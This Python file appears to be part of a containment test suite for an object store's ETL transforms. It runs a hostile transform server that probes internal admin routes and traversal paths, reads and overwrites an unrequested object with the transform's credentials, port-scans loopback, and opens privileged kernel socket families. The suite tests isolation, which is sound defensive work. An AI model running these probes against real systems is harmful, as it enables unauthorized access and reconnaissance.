"""A transform that is a server, and attacks that need one: along its way back to the store."""

import http.client
import http.server
import json
import os
import socket
from urllib.parse import parse_qs, quote, urlsplit

from attack_main import answer


def _ask(method, address, path, body=None):
    """Return whether somebody answered that it is done."""
    connection = http.client.HTTPConnection(address[0], address[1], timeout=5)
    try:
        connection.request(method, path, body)
        reply = connection.getresponse()
        reply.read()
        return 200 <= reply.status < 300
    except (OSError, http.client.HTTPException):
        return False
    finally:
        connection.close()


def _places(store):
    """Return where the store may be: where it really is, and where this transform is told to call."""
    told = urlsplit(os.environ["AIS_TARGET_URL"])
    return [tuple(store), (told.hostname, told.port)], told.path


def other_routes(store, **_):
    places, prefix = _places(store)
    paths = ["/v1/buckets/*", "/v1/objects/attacked/stored", "/v1/etl", "/metrics", "/v1/daemon?what=config",
             "/v1/cluster?what=smap", "/v1/internal/", prefix + "/../../../buckets", "//v1/etl"]  # fmt: skip
    done = ["{}:{}{}".format(*place, path) for place in places for path in paths if _ask("GET", place, path)]
    return ", ".join(done) or None


def other_objects(store, **_):
    """Read and write an object that this transform was not asked for, with the secret that it has."""
    places, prefix = _places(store)
    name = prefix + "/" + quote("ais/@#/attacked/stored", safe="")
    done = [f"{method} {place}" for place in places for method in ("GET", "HEAD") if _ask(method, place, name)]
    done += [f"PUT {place}" for place in places if _ask("PUT", place, name, b"evil")]
    done += [f"GET {place}" for place in places if _ask("GET", place, "/v1/objects/attacked/stored")]
    return ", ".join(done) or None


def scan(store, service, **_):
    """Look for open ports on loopback beside the own ones."""
    own = {int(os.environ["PORT"]), urlsplit(os.environ["AIS_TARGET_URL"]).port}
    found = []
    for port in sorted({*range(1, 1025), store[1], service[1], *range(8000, 8100), *range(50000, 51200)} - own):
        with socket.socket() as probe:
            probe.settimeout(2)
            # A socket that is given the very port that it asks for connects to itself.
            if probe.connect_ex(("127.0.0.1", port)) == 0 and probe.getsockname() != probe.getpeername():
                found.append(port)
    return f"ports {found}" if found else None


def kernel_sockets(**_):
    """Families of sockets beside those that a server needs."""
    from attack_calls import tried

    families = {"netlink": (16, 3, 0), "netfilter": (16, 3, 12), "packet": (17, 3, 0), "crypto": (38, 5, 0),
                "vsock": (40, 1, 0), "xdp": (44, 3, 0)}  # fmt: skip
    return tried({name: (lambda kind=kind: socket.socket(*kind).close()) for name, kind in families.items()})


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        query = parse_qs(urlsplit(self.path).query)
        if "etl_args" not in query:
            self.reply(200, b"fine")
            return
        options = json.loads(query["etl_args"][0])
        module, _, name = options["attack"].partition(".")
        here = globals()[name] if module == "attack_server" else None
        self.reply(200, (json.dumps(answer(options, here)) + "\n").encode())

    def reply(self, status, body):
        self.send_response(status)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


if __name__ == "__main__":
    address = os.environ.get("LISTEN", "127.0.0.1"), int(os.environ["PORT"])
    http.server.ThreadingHTTPServer(address, Handler).serve_forever()
